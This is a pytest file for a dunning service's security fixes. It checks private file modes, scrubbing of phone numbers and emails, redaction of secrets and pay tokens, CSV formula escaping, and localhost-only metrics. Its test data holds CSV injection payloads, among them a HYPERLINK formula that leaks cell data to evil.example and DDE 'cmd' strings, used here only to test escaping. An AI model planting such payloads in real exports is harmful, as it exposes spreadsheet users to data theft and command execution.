"""Issue 14, finding 9 (files and logs) and finding 5's access log, replayed
and refused:

- the pay-link secret and the SQLite database are 0600 from their creation,
  never for a moment at the umask's mode (checked under a umask of 0, where a
  file created any other way would be 0666, and by watching every file
  creation); inbound SMS are kept in the database, no file of their own, and
  logged with the number masked (issue 17);
- a provider error quoting the recipient in another formatting is scrubbed;
- a CSV cell starting with =, +, -, @, a tab or CR is not a formula;
- repr(settings) shows no secret;
- uvicorn's access log line for a pay page has no token in it, and is JSON;
- the metrics listen on 127.0.0.1 unless configured otherwise.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import stat
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from contextlib import contextmanager
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

import runtime.settings as runtime_settings
from activities.exports import write_bureau_cycle, write_legal_documents
from db.models import Borrower, BureauRecord, Loan, Payment
from db.outbox import scrub
from db.private_files import open_private_append, write_private
from db.session import make_engine
from dunning import metro2
from dunning.csv_cells import csv_cell
from gateway.settings import GatewaySettings
from runtime.dev_server import free_port
from runtime.logging import RedactSecrets, redact
from runtime.settings import Settings
from runtime.temporal import metrics_address, metrics_runtime
from tests.conftest import BORROWER

ROOT = Path(__file__).resolve().parent.parent

# ------------------------------------------------------------ file creation

# Every file opened for creation, by builtin open() or os.open(): an audit
# hook sees both (it cannot be removed, so it records only while a test asks).
_watching: list[tuple[str, str, int]] = []
_watch_lock = threading.Lock()
_watch_on = False


def _audit(event: str, args: tuple) -> None:
    if _watch_on and event == "open" and len(args) == 3 and isinstance(args[2], int) and args[2] & os.O_CREAT:
        with _watch_lock:
            _watching.append((os.fsdecode(args[0]) if isinstance(args[0], (str, bytes)) else str(args[0]),
                              "builtin" if args[1] is not None else "os.open", args[2]))


sys.addaudithook(_audit)


@contextmanager
def created_files(directory: Path, monkeypatch):
    """Under a umask of 0, every file created in `directory`: (path, how, mode
    asked for). A mode other than 0600 given at creation would be visible to
    others until a later chmod; that moment is what the test refuses."""
    global _watch_on
    modes: dict[str, int] = {}
    real_open = os.open

    def spy(path, flags, mode=0o777, *args, **kwargs):
        if flags & os.O_CREAT:
            modes[os.fsdecode(path)] = mode
        return real_open(path, flags, mode, *args, **kwargs)

    monkeypatch.setattr(os, "open", spy)
    previous = os.umask(0)
    found: list[tuple[str, str, int | None]] = []
    _watching.clear()
    _watch_on = True
    try:
        yield found
    finally:
        _watch_on = False
        os.umask(previous)
        for path, how, _flags in _watching:
            if Path(path).resolve().is_relative_to(directory.resolve()) or str(directory) in path:
                found.append((path, how, modes.get(path) if how == "os.open" else None))


def assert_private_from_creation(path: Path, found) -> None:
    mode = stat.S_IMODE(os.stat(path).st_mode)
    assert mode == 0o600, f"{path.name} is {oct(mode)}"
    # Every creation in the directory asked for 0600 itself (the temporary
    # name renamed into place included): no file existed at another mode.
    assert found, "no file creation was seen"
    for created, how, asked in found:
        assert how == "os.open" and asked == 0o600, f"{Path(created).name} was created by {how} at {asked!r}"


def test_the_pay_link_secret_file_is_0600_from_its_creation(tmp_path, monkeypatch):
    monkeypatch.setattr(runtime_settings, "STATE_DIR", tmp_path / "state")
    with created_files(tmp_path, monkeypatch) as found:
        secret = Settings(DUNNING_PAY_LINK_SECRET="").signing_secret()
    path = tmp_path / "state" / "pay_link_secret"
    assert_private_from_creation(path, found)
    assert path.read_text() == secret and len(secret) >= 32
    # A second process reads the same secret; nothing is rewritten.
    assert Settings(DUNNING_PAY_LINK_SECRET="").signing_secret() == secret
    assert sorted(p.name for p in path.parent.iterdir()) == ["pay_link_secret"]


def test_the_old_way_of_writing_it_would_be_caught(tmp_path, monkeypatch):
    """Negative control: write_text then chmod, as before, fails the check."""
    path = tmp_path / "pay_link_secret"
    with created_files(tmp_path, monkeypatch) as found:
        path.write_text("secret")
        path.chmod(0o600)
    with pytest.raises(AssertionError, match="created by builtin"):
        assert_private_from_creation(path, found)


def test_an_inbound_sms_is_kept_in_the_database_and_the_logs_hold_no_full_number(
    settings, session_factory, seeded_borrower, tmp_path, monkeypatch, capfd,
):
    """Issue 17: replies went to inbound.jsonl, a second copy of phone numbers
    and texts beside the database. Now the database holds them (like the
    borrower directory), no other file is written, and the logs mask the number."""
    from fastapi.testclient import TestClient

    import gateway.routes.twilio
    import services.inbound
    from db.models import InboundMessage
    from gateway.app import create_app
    from tests.support.gateway import gateway_settings, twilio_signed

    logged: list[str] = []

    class Recorder:
        def __getattr__(self, level):
            return lambda event, **fields: logged.append(json.dumps({"event": event, **fields}, ensure_ascii=False))

    for module in (services.inbound, gateway.routes.twilio):
        monkeypatch.setattr(module, "log", Recorder())
    params = {"MessageSid": "SM-FILES-1", "From": BORROWER["phone"], "Body": "call me on Friday please"}
    database = Path(settings.database_url.removeprefix("sqlite:///")).name
    app = create_app(settings, lambda: None, gateway_settings(tmp_path))
    with TestClient(app) as client:
        client.get("/health")  # the database is opened (and migrated) before the watch
        with created_files(tmp_path, monkeypatch) as found:
            answer = client.post("/webhooks/twilio/inbound", data=params,
                                 headers=twilio_signed("/webhooks/twilio/inbound", params))
    assert answer.status_code == 200
    assert [Path(path).name for path, _, _ in found if not Path(path).name.startswith(database)] == []
    with session_factory() as db:
        [row] = db.query(InboundMessage).all()
    assert (row.body, row.sender, row.borrower_id) == ("call me on Friday please", BORROWER["phone"], "B-77")
    captured = capfd.readouterr()
    logs = "\n".join(logged) + captured.out + captured.err
    assert '"inbound_sms"' in logs and "+86***00" in logs  # masked: enough to tell two numbers apart
    assert BORROWER["phone"] not in logs and BORROWER["phone"][1:] not in logs and "call me" not in logs


def test_an_existing_world_readable_append_file_is_made_private(tmp_path):
    path = tmp_path / "checkpoints.jsonl"
    path.write_text('{"old": 1}\n')
    path.chmod(0o644)
    with open_private_append(path) as handle:
        handle.write('{"new": 2}\n')
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert path.read_text() == '{"old": 1}\n{"new": 2}\n'


def test_the_sqlite_database_and_its_wal_files_are_0600(tmp_path, monkeypatch):
    from db.migrate import upgrade_to_head

    url = f"sqlite:///{tmp_path / 'data' / 'dunning.db'}"
    database = tmp_path / "data" / "dunning.db"
    with created_files(tmp_path, monkeypatch) as found:
        make_engine(url)  # the file exists at 0600 before SQLite first opens it
    assert_private_from_creation(database, found)
    previous = os.umask(0)
    try:
        upgrade_to_head(url)  # SQLite writes the database, its -wal and -shm
    finally:
        os.umask(previous)
    modes = {path.name: stat.S_IMODE(os.stat(path).st_mode) for path in database.parent.glob("dunning.db*")
             if not path.name.endswith(".migrate-lock")}  # (an empty lock file: no data)
    assert modes["dunning.db"] == 0o600 and set(modes.values()) == {0o600}, modes


def test_write_private_replaces_a_file_whatever_its_mode_and_leaves_no_temporary(tmp_path, monkeypatch):
    path = tmp_path / "key"
    path.write_text("old")
    path.chmod(0o644)
    with created_files(tmp_path, monkeypatch) as found:
        write_private(path, b"new")
    assert_private_from_creation(path, found)
    assert path.read_bytes() == b"new"
    assert [p.name for p in tmp_path.iterdir()] == ["key"]


def test_a_symlink_planted_at_an_append_files_path_is_not_followed(tmp_path):
    target = tmp_path / "elsewhere"
    target.write_text("")
    link = tmp_path / "checkpoints.jsonl"
    link.symlink_to(target)
    with pytest.raises(OSError):
        open_private_append(link)
    assert target.read_text() == ""


# ------------------------------------------------------------ scrubbing

PHONE = BORROWER["phone"]  # +8613800138000


@pytest.mark.parametrize("quoted", [
    "+8613800138000", "8613800138000", "+86 138 0013 8000", "86-138-0013-8000", "(+86) 138-0013-8000",
    "0086 138 0013 8000", "138 0013 8000", "13800138000", "+86.138.0013.8000",
])
def test_a_provider_error_quoting_the_number_in_any_format_is_scrubbed(quoted):
    text = f"Error 21211: The 'To' number {quoted} is not a valid phone number (code 400)."
    scrubbed = scrub(text, PHONE)
    assert "13800138000" not in re.sub(r"\D", "", scrubbed)
    assert "0013" not in scrubbed and "8000 " not in scrubbed
    # What is not the number stays, so the error is still useful.
    assert scrubbed.startswith("Error 21211: The 'To' number ") and scrubbed.endswith("(code 400).")


def test_scrubbing_a_number_leaves_other_numbers_alone():
    text = "Error 21610 at 2024-05-01: attempt 3 of 5, +8613900139000 unaffected"
    assert scrub(text, PHONE) == text


@pytest.mark.parametrize("quoted", [
    "borrower@example.com", "BORROWER@EXAMPLE.COM", "Borrower@Example.Com", "borrower%40example.com",
])
def test_an_email_address_in_any_case_is_scrubbed(quoted):
    scrubbed = scrub(f"550 5.1.1 <{quoted}>: mailbox unavailable", "borrower@example.com")
    assert "borrower" not in scrubbed.lower()
    assert scrubbed == "550 5.1.1 <b***@example.com>: mailbox unavailable"


# ------------------------------------------------------------ CSV formula injection

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"pay\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_escaped(cell):
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.50", "+3", "0", "12.5", "", "2024-05-01", "B-77", "yes", "1e3"])
def test_plain_values_and_numbers_are_left_as_they_are(cell):
    assert csv_cell(cell) == cell


def _loan(db) -> None:
    db.add(Borrower(**BORROWER))
    db.add(Loan(loan_id="L-CSV", borrower_id=BORROWER["borrower_id"], amount_due=Decimal("100.00"), currency="CNY",
                due_date=date(2024, 4, 1), policy="standard", workflow_id="dunning-L-CSV"))


def test_statement_of_account_cells_starting_a_formula_are_escaped(session_factory, tmp_path):
    with session_factory.begin() as db:
        _loan(db)
        for number, (paid_at, amount, payment_id, reason) in enumerate([
            (FORMULAS[0], "+1+1", "@SUM(A1)", "=cmd|' /C calc'!A0"),
            ("2024-05-01T00:00:00Z", "-5.00", "P-2", "\t=1"),
        ]):
            db.add(Payment(key=f"payment:L-CSV:{number}", loan_id="L-CSV", workflow_id="dunning-L-CSV",
                           payment_id=payment_id, amount=amount, currency="CNY", paid_at=paid_at, reason=reason))
    with session_factory() as db:
        write_legal_documents(db, tmp_path, "L-CSV")
    rows = list(csv.reader(io.StringIO((tmp_path / "legal" / "L-CSV" / "statement_of_account.csv").read_text())))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", cell)]
    first, second = rows[2], rows[3]
    assert first[0] == "'" + FORMULAS[0] and first[2] == "'@SUM(A1)" and first[3] == "'+1+1"
    assert first[6] == "'=cmd|' /C calc'!A0"
    assert second[3] == "-5.00" and second[6] == "'\t=1"  # a negative amount stays a number
    # The case files hold personal data: 0600 as well.
    assert stat.S_IMODE(os.stat(tmp_path / "legal" / "L-CSV" / "statement_of_account.csv").st_mode) == 0o600


def test_the_bureau_export_is_fixed_width_and_no_value_can_break_its_layout(session_factory, tmp_path):
    """The bureau file used to be a CSV whose cells needed formula escaping
    ("=A"). It is a Metro 2 file now (issue 16): fixed-width records that no
    spreadsheet opens as formulas, every line the same length, and a value
    that is not printable ASCII (a line break would shift every field after
    it) is refused, never written."""
    with session_factory.begin() as db:
        _loan(db)
        db.add(BureauRecord(key="bureau:L-CSV:2024-05", loan_id="L-CSV", workflow_id="dunning-L-CSV", cycle="2024-05",
                            days_past_due=30, balance=Decimal("100.00"), currency="CNY",
                            special_comment="=A", account_status="71"))
    with session_factory() as db:
        path = write_bureau_cycle(db, tmp_path, "2024-05")
    lines = path.read_text().splitlines()
    assert lines and len({len(line) for line in lines}) == 1
    [field] = [f for f in metro2.BASE if f.name == "specialComment"]
    with pytest.raises(metro2.Metro2Error, match="printable ASCII"):
        metro2.encode(field, "A\n")


# ------------------------------------------------------------ secrets in repr

SECRETS = {
    "TWILIO_AUTH_TOKEN": "twilio-secret-1", "SENDGRID_API_KEY": "SG.secret-2", "DUNNING_PUSH_TOKEN": "push-secret-3",
    "DUNNING_PAY_LINK_SECRET": "pay-link-secret-4", "DUNNING_FIELD_API_TOKEN": "field-secret-5",
    "DUNNING_PAYMENTS_SECRET": "payments-secret-6,payments-secret-7",
}


def test_repr_of_the_settings_shows_no_secret():
    core = Settings(**SECRETS, DUNNING_DATABASE_URL="postgresql://dunning:db-password-8@db.internal/dunning")
    edge = GatewaySettings(**SECRETS)
    for shown in (repr(core), str(core), repr(edge), str(edge)):
        for secret in [*SECRETS.values(), "payments-secret-7", "db-password-8"]:
            assert secret not in shown
    # A dump (a debugging print, an error report) keeps the SecretStr ones hidden too.
    for shown in (repr(core.model_dump()), repr(edge.model_dump()), core.model_dump_json(), edge.model_dump_json()):
        for secret in [*SECRETS.values(), "payments-secret-7"]:
            assert secret not in shown
    assert "dunning:***@db.internal" in repr(core)
    # The code that needs a secret still gets it.
    assert core.twilio_auth_token.get_secret_value() == "twilio-secret-1"
    assert core.signing_secret() == "pay-link-secret-4"
    assert edge.payments_secret.get_secret_value() == "payments-secret-6,payments-secret-7"
    assert core.database_url.endswith("db-password-8@db.internal/dunning")


def test_a_secret_given_as_text_to_model_copy_is_still_a_secret():
    copy = Settings().model_copy(update={"twilio_auth_token": "copied-secret", "task_queue": "q"})
    assert "copied-secret" not in repr(copy)
    assert copy.twilio_auth_token.get_secret_value() == "copied-secret" and copy.task_queue == "q"


# ------------------------------------------------------------ the access log

TOKEN = "tOkEn-" + "s3cr3t" * 6


def test_the_redaction_filter_takes_the_token_out_of_an_access_record():
    import logging

    record = logging.LogRecord("uvicorn.access", logging.INFO, __file__, 1, '%s - "%s %s HTTP/%s" %d',
                               ("127.0.0.1:5000", "GET", f"/pay/{TOKEN}/plan?token={TOKEN}", "1.1", 200), None)
    assert RedactSecrets().filter(record)
    assert TOKEN not in record.getMessage()
    assert record.path == "/pay/[redacted]/plan?token=[redacted]" and record.status == 200
    assert redact(f"https://pay.example/pay/{TOKEN}") == "https://pay.example/pay/[redacted]"


def test_the_gateway_access_log_is_json_without_the_pay_token(tmp_path):
    """`uvicorn gateway.app:app`, as make gateway runs it: a pay page request's
    access line has the path with the token redacted, as a JSON object."""
    port = free_port()
    env = {**os.environ, "DUNNING_DATABASE_URL": f"sqlite:///{tmp_path / 'dunning.db'}",
           "DUNNING_PAY_LINK_SECRET": "access-log-test",
           "PYTHONPATH": str(ROOT)}
    log = tmp_path / "gateway.log"
    with open(log, "wb") as output:
        process = subprocess.Popen([sys.executable, "-m", "uvicorn", "gateway.app:app", "--host", "127.0.0.1",
                                    "--port", str(port)], cwd=ROOT, env=env, stdout=output, stderr=subprocess.STDOUT)
        try:
            deadline = time.monotonic() + 60
            while True:
                try:
                    with socket.create_connection(("127.0.0.1", port), timeout=1):
                        break
                except OSError:
                    assert process.poll() is None, log.read_text()
                    assert time.monotonic() < deadline, log.read_text()
                    time.sleep(0.2)
            for path in (f"/pay/{TOKEN}", f"/pay/{TOKEN}/plan?token={TOKEN}"):
                try:
                    urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=30).close()
                except urllib.error.HTTPError as error:
                    assert 400 <= error.code < 500  # unknown token (410), a GET on the form (405)
            time.sleep(0.5)
        finally:
            process.terminate()
            process.wait(timeout=30)
    text = log.read_text()
    assert TOKEN not in text
    lines = [json.loads(line) for line in text.splitlines() if line.startswith("{")]
    access = [line for line in lines if line.get("logger") == "uvicorn.access"]
    assert [line["path"] for line in access] == ["/pay/[redacted]", "/pay/[redacted]/plan?token=[redacted]"], text
    assert all(line["http_method"] == "GET" and "timestamp" in line for line in access)
    # uvicorn's own lines are JSON too: no console text at all.
    assert all(line.startswith("{") for line in text.splitlines() if line.strip()), text


# ------------------------------------------------------------ metrics

def test_metrics_listen_on_localhost_unless_configured_otherwise(monkeypatch):
    assert metrics_address(Settings(DUNNING_METRICS_PORT=9464)) == "127.0.0.1:9464"
    assert metrics_address(Settings(DUNNING_METRICS_PORT=9464, DUNNING_METRICS_HOST="0.0.0.0")) == "0.0.0.0:9464"
    assert metrics_address(Settings(DUNNING_METRICS_PORT=9464, DUNNING_METRICS_HOST="::1")) == "[::1]:9464"
    assert metrics_address(Settings()) is None
    bound = []
    import runtime.temporal as temporal

    monkeypatch.setattr(temporal, "PrometheusConfig", lambda bind_address: bound.append(bind_address))
    monkeypatch.setattr(temporal, "TelemetryConfig", lambda metrics: metrics)
    monkeypatch.setattr(temporal, "Runtime", lambda telemetry: telemetry)
    metrics_runtime(Settings(DUNNING_METRICS_PORT=9464))
    assert bound == ["127.0.0.1:9464"]
